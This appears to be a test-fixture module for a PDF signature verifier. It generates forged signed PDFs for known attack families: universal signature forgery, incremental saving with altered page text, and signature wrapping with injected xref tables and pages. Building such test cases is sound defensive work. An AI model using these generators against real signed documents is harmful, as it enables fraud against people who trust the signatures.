// "1 Trillion Dollar Refund" (2019): universal signature forgery, incremental saving, signature wrapping.
import { concat } from '../../../src/lib/bytes/concat.ts';
import { PdfDict, PdfName, type PdfObject, PdfString } from '../../../src/lib/pdf/objects.ts';
import { findSignatures } from '../../../src/lib/verify/signatures.ts';
import { latin1 } from '../draft.ts';
import { lastXref } from '../write.ts';
import {
  append,
  archived,
  type Attack,
  CONTENT,
  edited,
  evilText,
  open,
  other,
  SIZE,
  textOf,
  twoParty
} from './scene.ts';

/** The signature dictionary is written again so that there is nothing to check, and the page says something else. */
function forged(name: string, spoil: (dict: PdfDict) => void): Attack {
  return {
    family: 'universal signature forgery',
    name,
    make: async (evil) => {
      const file = await twoParty();
      if (!evil) return archived(file);
      const holders = findSignatures(open(file)).map(({ holder }) => holder?.num ?? 0);
      const objects = Object.fromEntries(holders.map((num) => [num, edited(file, num, spoil)]));
      return append(file, { ...objects, [CONTENT]: evilText() });
    }
  };
}

const set =
  (key: string, value: PdfObject) =>
  (dict: PdfDict): void => {
    dict.set(key, value);
  };

export const universalForgery: readonly Attack[] = [
  forged('no /Contents', (dict) => dict.map.delete('Contents')),
  forged('/Contents null', set('Contents', null)),
  forged('/Contents empty', set('Contents', new PdfString(new Uint8Array(0), true))),
  forged('/Contents one zero', set('Contents', new PdfString(Uint8Array.of(0), true))),
  forged('no /ByteRange', (dict) => dict.map.delete('ByteRange')),
  forged('/ByteRange null', set('ByteRange', null)),
  forged('/ByteRange all zero', set('ByteRange', [0, 0, 0, 0])),
  forged('/ByteRange negative', set('ByteRange', [0, -1, 10, -1])),
  forged('/ByteRange behind the end', set('ByteRange', [0, 99_999_999, 99_999_999, 10])),
  forged('no /SubFilter', (dict) => dict.map.delete('SubFilter')),
  forged('/Type of a note', set('Type', new PdfName('Annot')))
];

function saved(name: string, make: (file: Uint8Array) => Uint8Array): Attack {
  return {
    family: 'incremental saving',
    name,
    make: async (evil) => {
      const file = await twoParty();
      return evil ? make(file) : archived(file);
    }
  };
}

const evilObject = `${CONTENT} 0 obj\n<< /Length 52 >>\nstream\nBT /F1 11 Tf 260 720 Td (The fee is 9.00 EUR) Tj ET  \nendstream\nendobj\n`;

export const incrementalSaving: readonly Attack[] = [
  saved('a whole revision', (file) => append(file, { [CONTENT]: evilText() })),
  saved('an object and no table', (file) => concat(file, latin1(`\n${evilObject}`))),
  saved('an object and a trailer without a table', (file) =>
    concat(file, latin1(`\n${evilObject}trailer\n<< /Root 1 0 R /Size ${SIZE} >>\n%%EOF\n`))
  ),
  saved('an object, a table and no startxref', (file) => {
    const at = file.length;
    const line = `${CONTENT} 1\n${String(at).padStart(10, '0')} 00000 n \n`;
    const trailer = `<< /Root 1 0 R /Size ${SIZE} /Prev ${lastXref(file)} >>`;
    return concat(file, latin1(`${evilObject}xref\n${line}trailer\n${trailer}\n%%EOF\n`));
  }),
  saved('an object, then the old startxref again', (file) =>
    concat(file, latin1(`${evilObject}startxref\n${lastXref(file)}\n%%EOF\n`))
  ),
  saved('a revision in a comment that only some readers take for one', (file) =>
    concat(file, latin1(`%${evilObject.replace(/\n/g, ' ')}\r${evilObject}\n%%EOF\n`))
  ),
  saved('a revision that also writes the signatures again', (file) => {
    const holders = findSignatures(open(file)).map(({ holder }) => holder?.num ?? 0);
    const copies = Object.fromEntries(holders.map((num) => [num, edited(file, num, () => undefined)]));
    return append(file, { ...copies, [CONTENT]: evilText() });
  })
];

interface Parts {
  readonly file: Uint8Array;
  /** Offsets of the hole. */
  readonly from: number;
  readonly to: number;
  /** Where the one table stands, behind the hole: the covered `startxref` says so. */
  readonly xref: number;
  /** Where what was covered behind the hole goes to. */
  readonly moved: number;
}

interface Injected {
  /** What stands in the old hole's place; the hole itself when absent. */
  readonly hole?: string;
  readonly objects: string;
  /** Which object each of these numbers names, when it is not the one in `objects`. */
  readonly entries?: Readonly<Record<number, number>>;
  readonly root?: number;
}

/**
 * What was covered behind the hole moves to the end; in the room that this makes lie other objects and, exactly
 * where the covered `startxref` leads, another table.
 */
function wrapped(name: string, inject: (parts: Parts) => Injected): Attack {
  return {
    family: 'signature wrapping',
    name,
    make: async (evil) => {
      const file = await other();
      const doc = open(file);
      const [, from = 0, to = 0] = findSignatures(doc)[0]?.byteRange ?? [];
      if (!evil) return file;
      const xref = lastXref(file);
      const moved = xref + 9000;
      const { hole, objects, entries = {}, root = 1 } = inject({ file, from, to, xref, moved });
      const numbers = new Set([
        ...doc.numbers(),
        ...[...objects.matchAll(/(\d+) 0 obj/g)].map((m) => Number(m[1]))
      ]);
      const tableLength =
        `xref\ntrailer\n<< /Root ${root} 0 R /Size 20 >>\n`.length +
        [...numbers].map((num) => `${num} 1\n`.length + 20).reduce((sum, length) => sum + length, 0);
      const offset = (num: number): number => {
        const at = new RegExp(`(^|\\n)${num} 0 obj`).exec(objects);
        if (at !== null) return xref + tableLength + at.index + (at[1] ?? '').length;
        return entries[num] ?? doc.locate(num)?.start ?? 0;
      };
      const lines = [...numbers].map(
        (num) => `${num} 1\n${String(offset(num)).padStart(10, '0')} 00000 n \n`
      );
      const head = textOf(file.subarray(0, from)) + (hole ?? textOf(file.subarray(from, to)));
      const table = `xref\n${lines.join('')}trailer\n<< /Root ${root} 0 R /Size 20 >>\n`;
      const text = head.padEnd(xref, ' ').slice(0, xref) + table + objects;
      return concat(latin1(text.padEnd(moved, ' ')), file.subarray(to));
    }
  };
}

const evilPage =
  '10 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 11 0 R /Annots [6 0 R] >>\nendobj\n' +
  '11 0 obj\n<< /Length 24 >>\nstream\nBT /F1 9 Tf (evil) Tj ET\nendstream\nendobj\n';

/** The signature dictionary once more, with a range that leads to where the covered rest went. */
function copied({ file, from, to, moved }: Parts): string {
  const contents = textOf(file.subarray(from, to));
  const range = `[0 ${from} ${moved} ${file.length - to}]`;
  const names = '/Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached';
  return `7 0 obj\n<< ${names} /ByteRange ${range} /Contents ${contents} >>\nendobj\n`;
}

export const wrapping: readonly Attack[] = [
  wrapped('a copy of the signature with a wider hole', (parts) => ({ objects: copied(parts) + evilPage })),
  wrapped('the same, and the old hole is gone', (parts) => ({
    hole: ' ',
    objects: copied(parts) + evilPage
  })),
  wrapped('the first dictionary stays, the pages are others', () => ({ objects: evilPage })),
  wrapped('a hole that stays open over what was put in', ({ file, from, to }) => ({
    hole: textOf(file.subarray(from, to - 1)),
    objects: `${evilPage}>`
  })),
  wrapped('another catalog over the same pages', (parts) => ({
    objects: `${copied(parts)}${evilPage}15 0 obj\n<< /Type /Catalog /Pages 2 0 R /AcroForm 5 0 R >>\nendobj\n`,
    root: 15
  })),
  wrapped('a copy that stands directly in its field', (parts) => ({
    objects: `6 0 obj\n<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /F 132 /P 10 0 R /V ${copied(parts).replace(/^7 0 obj\n|endobj\n$/g, '')} >>\nendobj\n${evilPage}`
  }))
];
